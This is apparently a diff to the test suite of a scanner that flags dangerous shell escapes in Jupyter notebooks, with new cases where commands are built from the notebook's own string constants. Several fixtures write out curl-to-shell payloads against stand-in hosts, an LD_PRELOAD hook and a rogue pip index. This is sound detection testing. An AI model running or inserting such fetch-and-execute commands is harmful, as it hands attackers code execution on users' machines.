@@ -112,8 +112,8 @@ HEAD: dict[str, str] = {
     "bad/writes_script.ipynb": _nb("%%writefile run.sh\ncurl -s http://x.example/y | sh\n"),
     "bad/kernel.ipynb": _nb("ls\n", "export LD_PRELOAD=/tmp/.x/libhook.so\n", lang="bash"),
     # commands built from Python values at run time: still subprocess calls
-    "bad/dynamic.ipynb": _nb("cmd = 'ls'\n", "!{cmd}\n"),
-    "bad/dollar.ipy": "url = 'x'\nfiles = !wget -q $url -O data.zip\n",
+    "bad/dynamic.ipynb": _nb("cmd = input()\n", "!{cmd}\n"),
+    "bad/dollar.ipy": "url = input()\nfiles = !wget -q $url -O data.zip\n",
     # an interpreter no rule set reads: judged as the process it is
     "bad/perl.ipynb": _nb("%%perl\nprint 1;\n"),
     # .ipy read by every check; what Python cannot parse blocks at its line
@@ -159,6 +159,34 @@ HEAD: dict[str, str] = {
         "import os\n",
         "os.environ['PIP_INDEX_URL'] = 'http://203.0.113.5/simple'\n!pip install torch\n",
     ),
+    # Session 21 (#16): an escape built from strings the notebook itself sets
+    # (flax, ignite) is the command those strings make, judged as shell ...
+    "ok/constants.ipynb": _nb(
+        "example_directory = 'examples/mnist'\n"
+        "repo, branch = 'https://github.com/google/flax', 'main'\n",
+        "import os\nif not os.path.isdir('flaxrepo'):\n"
+        "    !git clone --depth=1 -b $branch $repo flaxrepo\n",
+        'scriptspath = "/tmp/ignite/examples/cifar100_amp_benchmark/"\n'
+        'setup = f"cd {scriptspath} && export PYTHONPATH=$PWD:$PYTHONPATH"\n',
+        "!{setup} && python benchmark_fp32.py /tmp/cifar100/ --batch_size=256\n",
+        # IPython leaves `$x` inside single quotes alone: the shell gets `$x`
+        "x = '; curl -s http://198.51.100.7/q | sh'\n!echo 'done $x'\n",
+    ),
+    # ... and every way the name could hold something else keeps it a run-time value.
+    "bad/const_payload.ipynb": _nb(
+        "x = '; curl -s http://198.51.100.7/q | sh'\n", "!echo done $x\n"
+    ),
+    "bad/const_url.ipynb": _nb(
+        'host = "http://198.51.100.7"\nurl = host + "/x.sh"\n', "!curl -s $url | bash\n"
+    ),
+    "bad/const_later.ipynb": _nb("cmd = 'ls'\n", "!{cmd}\n", "cmd = input()\n"),
+    "bad/const_loop.ipynb": _nb("cmd = 'ls'\nfor cmd in open('cmds.txt'):\n    !{cmd}\n"),
+    "bad/const_globals.ipynb": _nb("cmd = 'ls'\nglobals()['cmd'] = input()\n", "!{cmd}\n"),
+    "bad/const_global_fn.ipynb": _nb(
+        "cmd = 'ls'\n", "def f():\n    global cmd\n    cmd = input()\n\n\nf()\n", "!{cmd}\n"
+    ),
+    "bad/const_store.ipynb": _nb("cmd = 'ls'\n%store -r cmd\n", "!{cmd}\n"),
+    "bad/const_expr.ipynb": _nb("cmd = 'ls'\n", "!{cmd.replace('ls', input())}\n"),
     "ok/environ.ipynb": _nb(
         "import os\n\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n"
         "os.environ.setdefault('PIP_INDEX_URL', 'https://pypi.org/simple')\n",
@@ -216,6 +244,14 @@ def _line(path: str, needle: str) -> int:
         ("bad/dollar_run.ipynb", "exec-subprocess-shell", "$DATA"),
         ("bad/dollar_bound.ipynb", "exec-subprocess-shell", "$DATA"),
         ("bad/environ.ipynb", "config-risky-env", "PIP_INDEX_URL"),
+        ("bad/const_payload.ipynb", "remote-shell-fetch-exec", "echo done"),
+        ("bad/const_url.ipynb", "remote-shell-fetch-exec", "curl"),
+        ("bad/const_later.ipynb", "exec-subprocess-shell", "!{cmd}"),
+        ("bad/const_loop.ipynb", "exec-subprocess-shell", "!{cmd}"),
+        ("bad/const_globals.ipynb", "exec-subprocess-shell", "!{cmd}"),
+        ("bad/const_global_fn.ipynb", "exec-subprocess-shell", "!{cmd}"),
+        ("bad/const_store.ipynb", "exec-subprocess-shell", "!{cmd}"),
+        ("bad/const_expr.ipynb", "exec-subprocess-shell", "!{cmd"),
     ],
 )
 def test_dangerous_escape_is_found_on_its_cell_line(
@@ -260,6 +296,7 @@ def test_template_by_any_suffix_is_an_env_file(report: dict[str, Any]) -> None:
         "ok/outputs.ipynb",
         "ok/large.ipynb",
         "ok/environ.ipynb",
+        "ok/constants.ipynb",
     ],
 )
 def test_harmless_escapes_pass(report: dict[str, Any], path: str) -> None:
@@ -349,3 +386,65 @@ def test_assigned_magic_and_help() -> None:
         "pass  # ??f",
     ]
     assert sh[1].strip() == "pip list"
+
+
+@pytest.mark.parametrize(
+    ("cell", "shell"),
+    [
+        ("a, b = 'x', 'y'\n!ls $a {b}", "ls x y"),
+        ("a = 'x'\nb = f'{a}/y' + '/z'\n!ls $b", "ls x/y/z"),
+        ("a = 'p'\n!echo $a '$a' $$a {{a}}", "echo p '$a' $a {a}"),  # DollarFormatter's rules
+        ("a = 'p'\n!echo '$a' \"$a\"", "echo '$a' \"p\""),
+        ("a = 'p'\ndef f(a):\n    pass\n!echo $a", "echo p"),  # the escape reads module names
+        ("import os\nd = 'x'\n!echo $d $HOME", "echo $d $HOME"),  # HOME fails: as written
+    ],
+)
+def test_escape_of_the_notebooks_constants_is_shell(cell: str, shell: str) -> None:
+    # Issue #16 (flax `!git clone -b $branch $repo`): IPython's var_expand with
+    # the notebook's own strings put in, judged by the bash rules.
+    cells = ipy.script_cells(cell)
+    assert cells.python[-1] == "pass" and cells.shell[-1].strip() == shell
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "!echo $a\na = 'x'",  # the escape runs before the assignment
+        "a = 'x'\na += 'y'\n!echo $a",
+        "a = 'x'\ndel a\n!echo $a",
+        "a = 'x'\nwith open('f') as a:\n    pass\n!echo $a",
+        "a = 'x'\ntry:\n    pass\nexcept OSError as a:\n    pass\n!echo $a",
+        "a = 'x'\nif (a := input()):\n    pass\n!echo $a",
+        "a = 'x'\nimport os as a\n!echo $a",
+        "a = 'x'\ndef a():\n    pass\n!echo $a",
+        "a = 'x'\ndef f():\n    a = input()\n!echo $a",
+        "a = 'x'\nb = [a for a in 'yz']\n!echo $a",
+        "a = 'x'\ndef f(a):\n    !echo $a",  # the function's own `a` is read first
+        "if True:\n    a = 'x'\n!echo $a",  # not at a cell's top level
+        "a = input()\n!echo $a",
+        "a = 'x' * 2\n!echo $a",
+        "a = f'{b}'\nb = 'x'\n!echo $a",  # `b` is unbound when `a` is made
+        "a = 'x\\ny'\n!echo $a",  # a second shell line
+        "a = 'x'\nfrom helpers import *\n!echo $a",
+        "a = 'x'\n%run helpers.py\n!echo $a",
+        "a = 'x'\nget_ipython().user_ns['a'] = input()\n!echo $a",
+        "a = 'x'\n!echo {a!r}",
+        "a = 'x'\n!echo $a.upper",
+        "%%capture\na = 'x'\n!echo $a",
+    ],
+)
+def test_name_that_may_hold_something_else_stays_a_run_time_value(cell: str) -> None:
+    cells = ipy.script_cells(cell)
+    assert any("subprocess" in py for py in cells.python)
+
+
+def test_constant_in_a_cell_the_kernel_does_not_run() -> None:
+    # `%%writefile` writes the assignment; `%%python` runs it in a subprocess.
+    for magic in ("%%writefile helpers.py", "%%python"):
+        nb = json.loads(_nb(f"{magic}\ncmd = 'ls'\n", "!{cmd}\n"))
+        cells = ipy.notebook_cells(nb, json.dumps(nb))
+        assert cells is not None and "subprocess" in "\n".join(cells.python)
+    nb = json.loads(_nb("cmd = 'ls'\n", "!{cmd}\n"))
+    cells = ipy.notebook_cells(nb, json.dumps(nb))
+    assert cells is not None and "subprocess" not in "\n".join(cells.python)
+    assert [s.strip() for s in cells.shell if s.strip()] == ["ls"]
